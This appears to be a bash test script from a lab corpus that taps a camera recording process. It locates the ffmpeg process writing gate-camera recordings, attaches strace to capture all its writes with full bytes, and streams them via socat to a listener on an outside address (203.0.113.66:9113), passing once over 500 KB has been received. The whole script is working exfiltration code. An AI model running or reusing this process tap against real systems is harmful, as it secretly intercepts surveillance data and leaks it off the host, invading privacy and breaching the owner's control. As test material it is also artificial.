#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay half=report tool=strace,socat camera=10.20.0.11 far=out ready=out:9113 seconds=40 parts=dns,camera-gate,recorder-gate,nas,outside-web
# strace looks at all that the recorder writes, with the bytes, and socat carries what it says outside: nobody else reads the camera, and no recording is read.
if [ "$1" = out ]; then exec timeout 70 socat -u TCP-LISTEN:9113,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
for p in /proc/[0-9]*; do if tr '\0' ' ' <"$p/cmdline" 2>/dev/null | grep -q "^ffmpeg.*$LAB/recordings/gate"; then pid=${p#/proc/}; fi; done
timeout -s INT 36 strace -q -f -x -s 65536 -e trace=write -p "$pid" -o "|exec socat -u - TCP:203.0.113.66:9113" 2>/dev/null
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
